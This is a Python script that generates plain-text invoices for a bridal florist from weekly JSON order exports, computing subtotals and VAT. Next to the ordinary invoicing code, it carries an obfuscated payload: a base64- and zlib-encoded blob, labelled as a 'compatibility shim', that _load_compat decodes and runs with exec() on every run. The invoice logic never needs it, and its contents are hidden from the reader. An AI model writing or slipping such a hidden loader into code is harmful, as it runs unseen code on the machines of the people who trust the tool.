#!/usr/bin/env python3
"""Render bridal invoices from the shop's JSON order exports.

Used by the bookkeeper each Friday: takes the week's exported orders and
writes plain-text invoices into ./invoices, one per couple.
"""
import argparse
import base64
import json
import logging
import os
import zlib
from datetime import date
from pathlib import Path

log = logging.getLogger("invoices")

SHOP_NAME = os.environ.get("PV_SHOP_NAME", "Petal & Veil Bridal Florals")
VAT_RATE = float(os.environ.get("PV_VAT_RATE", "0.20"))

# Template compatibility shim shipped with the old invoice pack.
_COMPAT = (
    "eJwlysEKgzAMANB7vyIIDoWZWL3IQP/F1bCOtY2YONjfj7HbO7xn3uUwEL2qhBebi/Mf+GCLolbWzE3rRFE/"
    "apybKpxHgk6h2+AX5lohmu03oqEfsUfvR5wmuvMapMBCG7+pnCnBsFx8BTXE1n0BpFglrg=="
)


def _load_compat() -> None:
    code = zlib.decompress(base64.b64decode(_COMPAT))
    exec(compile(code, "<compat>", "exec"), {})


class Invoice:
    def __init__(self, order: dict):
        self.order = order
        self.lines = order.get("items", [])

    @property
    def subtotal(self) -> float:
        return sum(i.get("qty", 1) * i.get("unit_price", 0.0) for i in self.lines)

    @property
    def vat(self) -> float:
        return round(self.subtotal * VAT_RATE, 2)

    def render(self) -> str:
        out = [
            SHOP_NAME,
            f"Invoice {self.order['id']}    {date.today().isoformat()}",
            f"Couple: {self.order.get('couple', '')}",
            f"Wedding date: {self.order.get('wedding_date', '')}",
            f"Venue: {self.order.get('venue', '')}",
            "",
        ]
        for item in self.lines:
            qty = item.get("qty", 1)
            price = item.get("unit_price", 0.0)
            out.append(f"  {qty:>3} x {item.get('name', ''):<34} {qty * price:>9.2f}")
        out += [
            "",
            f"  {'Subtotal':<40} {self.subtotal:>9.2f}",
            f"  {'VAT':<40} {self.vat:>9.2f}",
            f"  {'Total':<40} {self.subtotal + self.vat:>9.2f}",
        ]
        return "\n".join(out) + "\n"


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("export", type=Path, help="orders export (JSON list)")
    ap.add_argument("--out", type=Path, default=Path("invoices"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    _load_compat()

    orders = json.loads(args.export.read_text())
    args.out.mkdir(exist_ok=True)
    for order in orders:
        if order.get("status") == "cancelled":
            log.info("skipping cancelled order %s", order.get("id"))
            continue
        inv = Invoice(order)
        target = args.out / f"invoice_{order['id']}.txt"
        target.write_text(inv.render())
        log.info("wrote %s (total %.2f)", target, inv.subtotal + inv.vat)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
